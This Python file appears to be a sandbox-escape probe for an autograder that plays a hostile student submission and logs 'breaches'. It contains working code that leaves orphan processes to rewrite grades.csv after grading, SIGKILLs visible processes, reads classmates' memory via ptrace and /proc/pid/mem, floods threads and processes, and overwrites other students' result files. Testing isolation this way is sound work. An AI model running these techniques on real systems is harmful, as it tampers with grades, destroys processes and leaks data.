# ruff: noqa: F821
"""Hurt others through processes: kill everything we can see (kill(-1) only where that can
hit nothing but the sandbox, else every process of this batch), ptrace a classmate and read
its memory, leave processes behind (one rewrites grades.csv after the grader exits), flood
threads and processes while classmates run, overwrite their observation files."""

import ctypes
import os
import signal
import subprocess
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
LIBC.ptrace.restype = ctypes.c_long

REWRITER = r"""
import csv, os, sys, time
out, student, base, sentinel = sys.argv[1:5]
end = time.time() + 45
first = None
while time.time() < end:
    path = os.path.join(out, "grades.csv")
    if os.path.isfile(path):
        first = first or time.time()
        if time.time() - first > 1.0:
            try:
                rows = list(csv.reader(open(path)))
                for row in rows[1:]:
                    if row[0] == student:
                        row[1] = row[2]
                with open(path, "w", newline="") as f:
                    csv.writer(f).writerows(rows)
                open(os.path.join(base, sentinel + "-orphan-rewrote-grades"), "w").close()
            except OSError:
                pass
            break
    time.sleep(0.1)
while time.time() < end:
    time.sleep(0.5)
"""


def _name_me(name):
    try:
        LIBC.prctl(15, name.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:  # noqa: BLE001
        pass


def _args():
    return [P["out"], P["student"], P["base"], P["sentinel"], P["sleep_token"]]


@attempt
def orphan_exec_new_session():
    proc = subprocess.Popen(
        [sys.executable, "-c", REWRITER, *_args()],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    MY_CHILDREN.append(proc.pid)


@attempt
def orphan_double_fork():
    """setsid + double fork, no exec: named by prctl, ignoring the polite signals."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _name_me(P["comm_token"])
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                sys.argv = ["rewriter", *_args()]
                try:
                    exec(REWRITER, {"__name__": "__orphan__"})  # noqa: S102
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


@attempt
def orphan_sleep_exec():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", [f"sleep-{P['sleep_token']}", "45"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def _kill_round():
    if in_own_pid_namespace():
        try:
            os.kill(-1, signal.SIGKILL)  # everything this process can see, but itself
        except OSError:
            pass
        return
    for pid in batch_pids():  # the machine is visible: stay within this test's batch
        try:
            os.kill(pid, signal.SIGKILL)
            breach("kill-other-process", f"pid {pid}: {cmdline(pid)[:100]!r}")
        except OSError:
            pass


@attempt
def ptrace_and_read_classmates():
    for pid in batch_pids():
        if LIBC.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE
            breach("ptrace-other-process", f"pid {pid}")
            LIBC.ptrace(0x4207, pid, None, None)  # PTRACE_INTERRUPT
            for _ in range(100):
                try:
                    if os.waitpid(pid, os.WNOHANG | 0x40000000)[0]:
                        break
                except ChildProcessError:
                    break
                time.sleep(0.01)
            LIBC.ptrace(17, pid, None, None)  # PTRACE_DETACH
        maps = read(f"/proc/{pid}/maps")
        if not maps:
            continue
        scanned = 0
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            continue
        try:
            for line in maps.decode().splitlines():
                fields = line.split()
                if "rw" not in fields[1] or scanned > 256 << 20:
                    continue
                lo, hi = (int(v, 16) for v in fields[0].split("-"))
                for at in range(lo, min(hi, lo + (64 << 20)), 1 << 20):
                    try:
                        chunk = os.pread(fd, min(1 << 20, hi - at), at)
                    except OSError:
                        break
                    scanned += len(chunk)
                    for needle in (P["marker_prefix"].encode(), P["env_name"].encode()):
                        i = chunk.find(needle)
                        if i >= 0:
                            breach("read-other-process-memory", chunk[max(0, i - 20) : i + 120])
        finally:
            os.close(fd)


FLOOD = threading.Event()


@attempt
def flood_threads():
    for _ in range(400):
        try:
            threading.Thread(target=FLOOD.wait, args=(P["hold"] + 5,), daemon=True).start()
        except RuntimeError:
            break


@attempt
def flood_processes():
    for _ in range(8):
        pid = os.fork()
        if pid == 0:
            _name_me(P["comm_token"])
            time.sleep(P["hold"] + 5)
            os._exit(0)
        MY_CHILDREN.append(pid)


@attempt
def hurt_for_a_while():
    """Keep killing and overwriting classmates' observations while they are graded."""
    end = time.monotonic() + P["hold"]
    while time.monotonic() < end:
        _kill_round()
        _, others = observation_dirs()
        for d in others:
            for name in os.listdir(d):
                if write(os.path.join(d, name), '{"cases": []}'):
                    breach("overwrite-classmate-observations", os.path.join(d, name))
        time.sleep(0.1)
